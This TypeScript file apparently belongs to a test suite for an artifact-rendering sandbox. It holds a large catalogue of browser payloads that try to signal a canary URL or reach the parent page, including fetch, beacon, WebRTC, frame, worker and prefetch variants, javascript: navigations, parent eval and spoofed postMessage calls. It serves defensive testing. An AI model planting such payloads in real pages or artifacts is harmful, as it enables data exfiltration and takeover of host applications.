import type { ArtifactType } from "../pipeline.ts";
import type { Canary } from "./canary.ts";

export interface Attack {
  name: string;
  /** It navigates its own frame. The browser may connect before it checks whether that is allowed, but it sends nothing. */
  leads: boolean;
  type: ArtifactType;
  code: string;
}

/** Scripts that try to send a signal outside. */
function scripts({ url, port, udpPort }: Canary): Record<string, string> {
  const element = (tag: string, attributes: string) =>
    `const e = document.createElement("${tag}"); Object.entries(${attributes}).forEach(([k, v]) => e.setAttribute(k, v)); document.body.append(e);`;
  const markup = (html: string) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)});`;
  const stun = `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`;
  const inner =
    `<script>${stun} fetch("${url}/inner"); new Image().src = "${url}/inner-image"</script>`.replaceAll(
      "<",
      "\\x3c",
    );
  return {
    fetch: `fetch("${url}/fetch", { mode: "no-cors" });`,
    "fetch that outlives the page": `fetch("${url}/keepalive", { mode: "no-cors", keepalive: true });`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send();`,
    sendBeacon: `navigator.sendBeacon("${url}/beacon", "x");`,
    WebSocket: `new WebSocket("ws://127.0.0.1:${port}/ws");`,
    EventSource: `new EventSource("${url}/events");`,
    WebTransport: `new WebTransport("https://127.0.0.1:${port}/wt");`,
    "an image": `new Image().src = "${url}/image";`,
    "an image in markup": markup(
      `<img src="${url}/markup"><picture><source srcset="${url}/srcset"><img></picture>`,
    ),
    "a background": `document.body.style.background = "url(${url}/background)";`,
    "a style sheet's import": markup(
      `<style>@import url("${url}/import"); @font-face { font-family: x; src: url("${url}/font"); } p { font-family: x; background: url("${url}/css"); cursor: url("${url}/cursor"), auto; }</style><p>x</p>`,
    ),
    "a style sheet": element("link", `{ rel: "stylesheet", href: "${url}/sheet" }`),
    prefetch: element("link", `{ rel: "prefetch", href: "${url}/prefetch" }`),
    preload: element("link", `{ rel: "preload", as: "image", href: "${url}/preload" }`),
    preconnect: element("link", `{ rel: "preconnect", href: "${url}" }`),
    "preconnect in markup": markup(
      `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`,
    ),
    prerender: element("link", `{ rel: "prerender", href: "${url}/prerender" }`),
    modulepreload: element("link", `{ rel: "modulepreload", href: "${url}/modulepreload" }`),
    icon: element("link", `{ rel: "icon", href: "${url}/icon" }`),
    manifest: element("link", `{ rel: "manifest", href: "${url}/manifest" }`),
    "speculation rules": `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["${url}/speculation"] }] }); document.head.append(s);`,
    "a script": element("script", `{ src: "${url}/script.js" }`),
    "a script with a nonce that it finds": `const s = document.createElement("script"); s.nonce = document.querySelector("script").nonce; s.src = "${url}/nonce.js"; document.body.append(s);`,
    "an import": `import("${url}/module.js").catch(() => {});`,
    "a frame": element("iframe", `{ src: "${url}/frame" }`),
    "a frame of markup": markup(
      `<iframe src="${url}/frame2"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
    ),
    video: markup(
      `<video src="${url}/video" autoplay muted poster="${url}/poster"></video><audio src="${url}/audio" autoplay></audio>`,
    ),
    "a drawing": markup(
      `<svg><image href="${url}/svg-image" /><use href="${url}/use#x" /><filter id="f"><feImage href="${url}/feimage" /></filter><rect filter="url(#f)" width="9" height="9" /></svg>`,
    ),
    "a form": `const f = document.createElement("form"); f.action = "${url}/form"; f.method = "post"; document.body.append(f); f.submit();`,
    "a form in a new window": `const f = document.createElement("form"); f.action = "${url}/form2"; f.target = "_blank"; document.body.append(f); f.submit();`,
    "a link": `const a = document.createElement("a"); a.href = "${url}/link"; a.ping = "${url}/ping"; document.body.append(a); a.click();`,
    "a link to the top": `const a = document.createElement("a"); a.href = "${url}/top"; a.target = "_top"; document.body.append(a); a.click();`,
    location: `location = "${url}/location";`,
    "location.replace": `location.replace("${url}/replace");`,
    "navigation.navigate": `navigation.navigate("${url}/navigate");`,
    "location of the parent": `parent.location = "${url}/parent";`,
    "location of the top": `top.location.href = "${url}/toplocation";`,
    refresh: `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${url}/refresh"; document.head.append(m);`,
    "a window": `window.open("${url}/window");`,
    WebRTC: stun,
    "WebRTC by its other names": `const C = window.webkitRTCPeerConnection || window.mozRTCPeerConnection; const p = new C({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`,
    "WebRTC of an empty frame": `const f = document.createElement("iframe"); document.body.append(f); const C = f.contentWindow.RTCPeerConnection; const p = new C({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`,
    "WebRTC of a frame with its own page": `const f = document.createElement("iframe"); f.srcdoc = '${inner}'; document.body.append(f);`,
    "its own script again, in a frame": `if (self !== top && document.documentURI === "about:srcdoc") { ${stun} } else { const f = document.createElement("iframe"); f.srcdoc = [...document.scripts].map((s) => s.outerHTML).join(""); document.body.append(f); }`,
    "its own script again, in a closed shadow": `if (document.documentURI === "about:srcdoc") { ${stun} } else { const d = document.createElement("div"); document.body.append(d); d.attachShadow({ mode: "closed" }).innerHTML = '<iframe></iframe>'; d.attachShadow; const r = document.createElement("div"); document.body.append(r); const root = r.attachShadow({ mode: "closed" }); const f = document.createElement("iframe"); f.srcdoc = [...document.scripts].map((s) => s.outerHTML).join(""); root.append(f); }`,
    "a frame in a shadow that is written out": `document.write('<div><template shadowrootmode="closed"><iframe srcdoc="' + document.scripts[document.scripts.length - 1].outerHTML.replaceAll('"', "&quot;") + '"></iframe></template></div>'); if (document.documentURI === "about:srcdoc") { ${stun} }`,
    "a frame set by unsafe markup": `document.body.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe srcdoc="x"></iframe></template></div>'); document.body.innerHTML = '<iframe srcdoc="${"&lt;"}img src=${url}/unsafe&gt;"></iframe>';`,
    "a frame that leads elsewhere": `const f = document.createElement("iframe"); f.name = "x"; document.body.append(f); window.open("${url}/named", "x"); frames[0].location = "${url}/frames0";`,
    "a worker": `new Worker(URL.createObjectURL(new Blob(['fetch("${url}/worker"); importScripts("${url}/import-scripts")'])));`,
    "a service worker": `navigator.serviceWorker.register("${url}/sw.js");`,
    "a worklet": `CSS.paintWorklet?.addModule("${url}/worklet.js"); new AudioContext().audioWorklet.addModule("${url}/audio.js");`,
    "a media stream": `navigator.mediaDevices.getUserMedia({ audio: true }).then(() => fetch("${url}/media"));`,
    "a payment": `new PaymentRequest([{ supportedMethods: "${url}/pay" }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment();`,
    "a drag to elsewhere and a shared file": `navigator.share?.({ url: "${url}/share" }); document.execCommand("createLink", false, "${url}/exec");`,
    "a base for relative addresses": `const b = document.createElement("base"); b.href = "${url}/"; document.head.append(b); new Image().src = "relative"; const a = document.createElement("a"); a.href = "x"; document.body.append(a); a.click();`,
    "a portal and a fenced frame": markup(
      `<portal src="${url}/portal"></portal><fencedframe src="${url}/fenced"></fencedframe><frameset><frame src="${url}/frameset"></frameset>`,
    ),
    "an image in a canvas": `const i = new Image(); i.crossOrigin = "anonymous"; i.src = "${url}/canvas"; fetch(new Request("${url}/request", { mode: "no-cors" }));`,
    "a request later": `window.fetchLater?.("${url}/later"); addEventListener("pagehide", () => navigator.sendBeacon("${url}/pagehide"));`,
    "a link of another parser": `document.body.append(document.importNode(new DOMParser().parseFromString('<link rel="preconnect" href="${url}">', "text/html").querySelector("link"), true));`,
    "a link of a fragment": `document.body.append(document.createRange().createContextualFragment('<link rel="preconnect" href="${url}">'));`,
    "a link of another document": `const e = document.implementation.createHTMLDocument("").createElement("link"); e.rel = "preconnect"; e.href = "${url}"; document.body.append(e);`,
    "a link with a prefix": `const e = document.createElementNS("http://www.w3.org/1999/xhtml", "a:link"); e.setAttribute("rel", "preconnect"); e.setAttribute("href", "${url}"); document.body.append(e);`,
    "a link of a kind of its own": `class Kind extends HTMLLinkElement {} customElements.define("x-kind", Kind, { extends: "link" }); const e = new Kind(); e.rel = "preconnect"; e.href = "${url}"; document.body.append(e);`,
    "a name that changes": `let n = 0; const e = document.createElement({ toString: () => (n++ ? "link" : "p") }); e.rel = "preconnect"; e.href = "${url}"; document.body.append(e);`,
    "a copy of a link of ours": `const e = (document.querySelector("link") ?? document.head.querySelector("[rel]")).cloneNode(); e.rel = "preconnect"; e.href = "${url}"; document.body.append(e);`,
    "a changed language": `String.prototype.indexOf = () => -1; String.prototype.slice = String.prototype.charCodeAt = () => ""; RegExp.prototype.test = () => false; Function.prototype.call = Function.prototype.apply = () => undefined; Array.prototype[Symbol.iterator] = undefined; document.body.innerHTML = '<link rel="preconnect" href="${url}"><iframe srcdoc="<img src=${url}/changed>"></iframe>';`,
    "a policy of its own": `const policy = trustedTypes.createPolicy("mine", { createHTML: (text) => text }); document.body.innerHTML = policy.createHTML('<link rel="preconnect" href="${url}">');`,
    "the app's own addresses as scripts": `for (const path of ["/", "/tools", "/artifacts/1/preview"]) { const s = document.createElement("script"); s.src = path; s.onload = () => fetch("${url}/own"); document.body.append(s); }`,
  };
}

/** Scripts that try to reach the page around them. */
const INTO_THE_APP: Record<string, string> = {
  "the parent's variables": "parent.pwned = parent.secret;",
  "the parent's document": "parent.document.body.innerHTML = 'pwned'; top.document.title = 'pwned';",
  "the element of the frame": "frameElement.ownerDocument.defaultView.pwned = 1;",
  "a script for the parent":
    'parent.location = "javascript:window.pwned=1"; top.location.href = "javascript:window.pwned=1";',
  "a link with a script to the top":
    "const a = document.createElement('a'); a.target = '_top'; a.href = 'javascript:window.pwned=1'; document.body.append(a); a.click();",
  "evaluating in the parent": "parent.eval('window.pwned=1'); parent.Function('window.pwned=1')();",
  "storage and cookies of the app": "parent.localStorage.pwned = 1; document.cookie = 'pwned=1; path=/';",
  "a message with a made-up name":
    "parent.postMessage({ tackle: 'frame-1-guess', type: 'ready', pwned: true }, '*'); parent.postMessage({ tackle: window.name, type: 'error', message: 'spoofed' }, '*');",
  "the opener": "opener.pwned = 1;",
};

const LEADING = new Set([
  "a link",
  "location",
  "location.replace",
  "navigation.navigate",
  "refresh",
  "a base for relative addresses",
]);

/** All attacks, in each artifact type that could carry them. */
export function attacksOn(canary: Canary): Attack[] {
  return listed(canary).map((attack) => ({
    ...attack,
    leads: LEADING.has(attack.name.replace(/, from .*/, "")),
  }));
}

function listed(canary: Canary): Omit<Attack, "leads">[] {
  const all = { ...scripts(canary), ...INTO_THE_APP };
  const { url } = canary;
  const wrap = (script: string) => `try { ${script} } catch (thrown) { console.log("stopped: " + thrown); }`;
  return [
    ...Object.entries(all).flatMap(([name, script]): Omit<Attack, "leads">[] => [
      {
        name: `${name}, from a page`,
        type: "html",
        code: `<body><p>x</p><script>${wrap(script)}</script></body>`,
      },
      {
        name: `${name}, from a component`,
        type: "react",
        code: `import { useEffect } from "react";\nexport default function App() {\n  useEffect(() => { ${wrap(script)} }, []);\n  return <p>x</p>;\n}`,
      },
    ]),
    {
      name: "resources in a page",
      type: "html",
      code: `<head><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/p"><link rel="stylesheet" href="${url}/s"><meta http-equiv="refresh" content="0;url=${url}/m"><script src="${url}/x.js"></script><base href="${url}/"></head><body background="${url}/b"><img src="${url}/i"><img src="r"><iframe src="${url}/f"></iframe><iframe srcdoc="<img src='${url}/d'>"></iframe><object data="${url}/o"></object><video src="${url}/v" poster="${url}/vp"></video><input type="image" src="${url}/n"><table background="${url}/t"></table></body>`,
    },
    {
      name: "a refresh before everything",
      type: "html",
      code: `<meta http-equiv="refresh" content="0;url=${url}/early"><p>x</p>`,
    },
    {
      name: "a shadow in the page",
      type: "html",
      code: `<div><template shadowrootmode="open"><iframe srcdoc="<img src='${url}/dsd'>"></iframe><img src="${url}/shadow-img"></template></div>`,
    },
    {
      name: "speculation rules in the page",
      type: "html",
      code: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}/rules"]}]}</script><p>x</p>`,
    },
    {
      name: "a drawing with everything",
      type: "svg",
      code: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="fetch('${url}/svg')"><script>fetch("${url}/svg-script")</script><image href="${url}/svg-image" width="9" height="9"/><style>@import url("${url}/svg-css"); rect { fill: url("${url}/svg-fill"); }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/svg-frame"/></foreignObject><use xlink:href="${url}/svg-use#a"/><rect width="9" height="9"/></svg>`,
    },
    {
      name: "a document with everything",
      type: "markdown",
      code: `# x\n\n![i](${url}/md-image)\n\n<img src="${url}/md-img" onerror="fetch('${url}/md-error')"><script>fetch("${url}/md-script")</script><iframe src="${url}/md-frame"></iframe><link rel="preconnect" href="${url}"><link rel="stylesheet" href="${url}/md-css"><meta http-equiv="refresh" content="0;url=${url}/md-refresh"><form action="${url}/md-form"><button>go</button></form><div style="background:url(${url}/md-bg)">x</div>\n\n[l](javascript:fetch('${url}/md-link'))`,
    },
    {
      name: "a diagram with everything",
      type: "mermaid",
      code: `graph TD\n  A["<img src='${url}/mm' onerror='fetch(1)'>"] --> B\n  click B href "${url}/mm-click"\n  click A call fetch("${url}/mm-call")\n  style A fill:url(${url}/mm-fill)`,
    },
    {
      name: "source code with tags",
      type: "code",
      code: `<img src="${url}/code"><script>fetch("${url}/code-script")</script>`,
    },
  ];
}
